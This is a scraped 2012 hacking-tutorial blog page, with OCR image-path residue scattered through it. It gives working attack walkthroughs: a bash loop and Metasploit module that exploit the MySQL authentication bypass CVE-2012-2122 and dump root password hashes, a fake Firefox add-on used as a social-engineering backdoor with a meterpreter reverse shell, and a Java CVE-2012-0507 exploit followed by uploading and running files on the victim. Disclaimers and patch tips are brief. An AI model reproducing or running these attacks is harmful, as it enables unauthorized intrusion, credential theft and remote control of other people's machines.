Continue   Reading>>Tuesday, June 12, 2012

CVE-2012-2122: Exploiting authentication bypass vulnerability in MySQL and MariaDB

The news about the vulnerability in MySQL and MariaDB spreads like a wild fire. I have covered about this vulnerability in E Hacking news as news article. Here, i am going to share the same thing from the perspective of a penetration tester.

The MySQL and MariaDB versions 5.161,5.2.11,5.3.5 and5.5.c2 are affected version.

The vulnerability allows an attacker to access MySQL database without inputing proper authentication credentials. The vulnerability can only exploited if MySQL was built on a system where the memcmp() function can return values outside the -128 to 127 range.

According to Gokubchik the gcc build in memcmp and BSD libc are safe bu the linux glibc sse-optimised memcmp is not safe.

Not all linux distros are affected, only the following systems are vulnerable:
*ubuntu linux 64 bit(10.04,11.10,11.04,12.04)*openSUSE 12.1 64 bit MySQL 5.5.23-log
*Debin Unstable 64 bit
*Arch Linux

In order to test the vulnerability, run the followoing bash script:
for i in `seq 1 1000`; do mysql -u root --password=bad -h>/dev/null; done

The above code will provide access to an affectte MySQL Server as the root user account.

The following video is provided by one of EHN reader:

Exploiting using Metasploit :
one of metasploit contributor committee a threaded brute-force module that abuses the authentication bypass flaw to automatically dump the password database.
A quick demonstration of this module is shown below using the latest MetasploitFramework GIT/SVN snapshot.:

$ msfconsole
msf > use auxiliary/scanner/mysql/mysql_authbypass_hashdump
msf auxiliary(mysql_authbypass_hashdump) > set USERNAME root
msf auxiliary(mysql_authbypass_hashdump) > set RHOSTS
msf auxiliary(mysql_authbypass_hashdump) > run
[+]server allows logins, proceeding with bypass test
[*] bypass is 10% complete
[*] bypass is 20% complete
[*] bypassed authentication after 205 attempts
[+] exploited the authentication bypass flaw, dumping hashes...
[+] HashString as Loot: root:*C8998584D8AA12421F29BB41132A288CD6829A6D
[+] HashString as Loot: root:*C8998584D8AA12421F29BB41132A288CD6829A6D
[+] HashString as Loot: root:*C8998584D8AA12421F29BB41132A288CD6829A6D
[+] HashString as Loot: root:*C8998584D8AA12421F29BB41132A288CD6829A6D
[+] HashString as Loot: debian-sys-maint:*C59FFB311C358B4EFD4F0B82D9A03CBD77DC7C89
[*] Table has been saved: 20120611013537_default_127.0.0.1_mysql.hashes_889573.txt
[*] Scanned 1 of 1 hosts (100% complete)
[*] Auxiliary module execution completed

Continue   Reading>>

Saturday, May 26, 2012

Tuesday, May 22, 2012

Hacking Windows 7 & Xp with Fake Firefox add-on (XPI) : Metasploit Tutorials

Hello BTS readers, i believe you enjoyed my last tutorial ( Java AtomicReferenceArray type violation vulnerability and exploiting ). So here is second tutorial for you ! In this tutorial i am going to explain how to hack any windows machine(xp,7) with the help of Metasploit.

Unlike last tutorial, we are not going to exploit any kind of vulnerabilities. We are going to use Social Engineering technique instead.

What exactly i am going to do?!
  1. Create a fake firefox extension with Metasploit that creates a backdoor from the victim system.
  2. Trick users into installing the add-on3. Break into the Target Machine.
  • As usual, you have to set up two virutal machines(VM ) in your virtualbox namely "Target" and "Attacker".
  • Install the windows xp or 7 in the Target VM.
  • Install the Backtrack in the Attacker VM.
need help in configuring the VM?! you can read this tutorial "Set up pentesting lab".

Part I: Update the Metasploit
As we are going to use the latest module, you are advised to update the Metasploit modules.  Don't know how to do this? No need to worry!
  • Open the Terminal
  • type msfupdate
  • This will update the Metasploit with latest modules :)
Part II: Configuring settings in Metasploit for the fake-addon exploit
Step 1:

Open the Terminal and type "msfconsole" to get the Metasploit console.

Step 2:
Type "use exploit/multi/browser/firefox_xpi_bootstrapped_addon" in the console.Step 3:
Now we have to know the list of settings available for this exploit module.  In order to get the list , you can type "show options" in the console.

Unlike the last tutorial, this module has an extra settings for the module namely "addonname".

Step 4: Configurations
Let us configure the setting for the exploit.
type the highlighted commands one by one in the consoleCommand: set addonname fake
Details: Name for thefake add-on.  you can change the "fake" to any name.

Command:set SRVHOST
Details: Here the is the ip of Backtrack .  You can get this ip by simply typing the "ifconfig" in the terminal. If you have trouble in getting the ip details, please drop your comment or read my previous post.

Command: set SRVPORT 80
Details: Our server is going to be accessed via the port 80(default port)

Command: set URIPATH fakeEx
Details: The path in which the fake add-on will be available to download. For ex:

Command: set LHOSTDetails: Here the is the ip of Backtrack .  You can get this ip by simply typingthe "ifconfig" in the terminal.

Step 5: Payload

As usual, we can use Reverse Tcp payload for this attack also. So type the following command in the Metasploit console:
set payload windows/meterpreter/reverse_tcp

Part III: Social Engineering Attack

Successfully configured the settings for the exploit, what else?! let us launch the exploit.
Type "exploit" in the console.
Now the exploit is started.  Our fake add-on is available at, "".

Once victim visit the link, it will ask user to install the add-on in order to view the page.  Once user install the add-on, the system will be backdoor-ed.

Now , You can control the victim system from meterpreter.

I believe you understand the risks of installing the add-on from unknown sources.  So, think twice before installing add-on .  Always use trusted add-on.  Search in the google for review aboutthe add-on.

The article given here is educational purpose only.  We suggest you to try this method in a controlled virtualbox environment.  We are not responsible for your illegal activity.
Continue   Reading>>

Sunday, May 13, 2012

How to hack remote computer using Metasploit? Exploiting Java vulnerability CVE-2012-0507

Whenever someone say PenTesting tool, the first thing come in our mind is MetaSploit . Today, i am going to demonstrate how to use the Metasploit tool to exploit the popular java AtomicReferenceArray TypeViolation vulnerability(CVE-2012-0507).
About MetaSploit:
Metsploit is a very Powerful PenTesting Tool . Metasploit Framework, a tool for developing and executing exploit code against a remote target machine. The Metasploit Project is also well known for anti-forensic and evasion tools, some of which are built into the Metasploit Framework. Very useful tool for Information Gathering, Vulnerability Scanning, Exploit Development, Client side exploits,...
Mastering the Framework: A free course from Offensive-Security
The Offensive Security Team along with several active community members, made a free course on the Metasploit Framework "Mastering the Framework". The course covers Information gathering, Social engineering attacks, exploit development, Advance AV avoidance and etc...

The course is available here:

Donate to HFC, Feed a Child!
The "Mastering the Framework" is free course. If you enjoyed the course, please donate to Hackers for Charity(HFC). Beyond merely providing food for children in need in East Africa, the Hackers for Charity Food Program enables children and their families to provide for themselves and become more self-sufficient by teaching them valuable agricultural skills. Every cent received is directly sent Hackers for Charity in support of their mission. Any amount, no matter how small, makes a difference; it only takes $9.00 to feed a child for a month.

You can find further details about the donation here:

Hey, where are you going?! Wait a Sec, take that course Once i demonstrate how to use the metasploit. Because, It will be hard to understand or boring, if you read thosethings directly.

  • VirtualBox
  • Target OS(windows,...)
  • PenTesting Distro(Backtrack )
  • JRE 6(unpatched version)

CVE-2012-0507 is a vulnerability in the JRE due to the fact that The AtomicReferenceArray class implementation did not properly check if the array is of an expected Object[] type. A malicious Java application or applet could use this flaw to cause Java Virtual Machine(JVM) to crash or bypass Java sandbox restrictions.

Security News: This vulnerability affects Windows, Mac and Linux operating systems. Last month, Flashback malware infect more than 600,000 Mac computers by exploiting this vulnerability. Recently, The INSS , The Amnesty International UK websites injected with malicious code that exploit the CVE-2012-0507.
I am going to demonstrate this vulnerability with VirtualBox.  I have setup two Virtual Machines namely "Target" and "BT5". I have installed XP 2 in the Target and Backtrack 5 R2 in the 'BT5'.

(need help in configuring the VM?, read this: setup PenTesting Lab).

Part I: Preparing the Target Machine:
Start the "Target" Machine.
Install the JRE 6.

Part II: Preparing the PenTesting Machine:
Now, start the BT5.

Open the Terminal and Type "msfupdate".  This will update the Metasploit Framework(MSF) with the latest exploits and Payloads. As CVE-2012-0507 is latest vulnerability, you have to update the MSF before proceeding further.

slow Internet Connection?! If you have slow internet connection, then you can download thejava_atomicreferencearray module alone instead of updating all modules.
Download the java_atomicreferencearray.rb and paste in this folder"/opt/metasploit/msf3/modules/exploits/multi/browser/"

Then, Download CVE-2012-0507.jar and paste in this folder "/opt/metasploit/msf3/data/exploits/"

Part III :

Exploiting the Java AtomicReferenceArray Type Violation Vulnerability:

Step 1:
Open the Terminal and type "msfconsole".  This will bring the Metasploit console , here you can interact with the MSF.

Step 2:
Type "use exploit/multi/browser/java_atomicreferencearray" . This command will use the java_atomicreferencearray.rb module for the attack.

Now type "show options" to display the which settings are available and/or required for this specific module.

Now type "set SRVPORT 80".
and  "set URIPATH /".

Step 3: Set Payload
Type "show payloads", this will displays the list of payloads.  We are going to use the 'reverse_tcp' payload. This payload will get reverse tcp connection from the Target to PenTesting machine.

Type 'set payload java/meterpreter/reverse_tcp' in the console.

set LHOST [IP_address] :  In order to get reverse connection, we have to set our IP in the LHOST.

open the Terminal and type "ifconfig". This will display the IP info of our PenTesting Machine.  The IP will be "192.168.56.x".   For instance, let me say the ip is

Now  Type in the msfconsole as "set LHOST".

Part IV: Breaching the Target Machine:So , are you ready?! Let us break into the Target Machine.

Step 1:Type "exploit" in the msfconsole. This will start the reverse handler to our Machine and it will wait anyone that will connect to the our HTTP server (Eg: Once victim connect to our server, it will send a jar will that will exploit the CVE-2012-0507 vulnerability.

step 2:

Open the Firefox/IE in the Target machine.
Enter "".
It loads nothing but exploit will run in the background.
Step 3:
Open the BT5 machine, it will display the following output:

Now type "sessions", this will show the list of active sessions .

Type "sessions -i 1", this will open the connection to the session with the id '1' and bring you toMeterpreter. Meterpreter will help you to interact/control with the Target.

Step 4:Upload files
Yeeeh..! we got backdoor to the Target machine, now we can run any commands in the Target.

For Example, Typing 'sysinfo' will display the system information.

You can also upload and execute your own executable files in the Target machine.

'upload /Test.exe c:\\", this command will upload the Test.exe from the root('file system' dir) folder of the BT5 to the C drive of the Target.

'execute -f C:\\Test.exe", this command will run our uploaded File in the Target.

Security Tips:
Update your JRE to the latest version.

I hope this article has given you a good insight into how to use MetaSploit Framework to exploit the Java vulnerability.  I hope this will help you to get into the PenTesting world..!

So, you enjoyed the Tutorial , right?! If you have any suggestion or have doubt, please drop your comment/mail me.
Continue   Reading>>

Friday, February 3, 2012

